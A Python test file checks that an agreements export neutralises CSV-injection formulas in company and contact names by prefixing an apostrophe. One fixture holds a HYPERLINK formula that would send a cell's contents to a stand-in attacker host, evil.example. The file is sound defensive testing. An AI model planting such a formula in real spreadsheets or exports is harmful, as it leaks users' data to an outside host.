"""A cell a spreadsheet would run as a formula is exported inert (OWASP: CSV injection)."""

import pytest

from agreements.exports import inert
from tests import factories as f
from tests.agreements.export import export, rows_of


def test_a_company_named_like_a_formula_is_exported_as_text(client, alice, contoso, template_cz):
    name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    f.RelationshipFactory(partner=contoso, customer=f.CustomerFactory(company_name=name))
    assert rows_of(export(client, alice))[1][2] == "'" + name


def test_a_contact_named_like_a_formula_is_exported_as_text(client, alice, acme):
    f.attest(acme, alice, first_name="@SUM(A1:A9)", last_name="-2+3")
    row = rows_of(export(client, alice))[1]
    assert (row[6], row[7]) == ("'@SUM(A1:A9)", "'-2+3")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_start_gets_an_apostrophe(start):
    assert inert(f"{start}1+1") == f"'{start}1+1"


def test_ordinary_text_is_left_alone():
    assert inert("Acme s.r.o.") == "Acme s.r.o."
    assert inert("a=b") == "a=b"
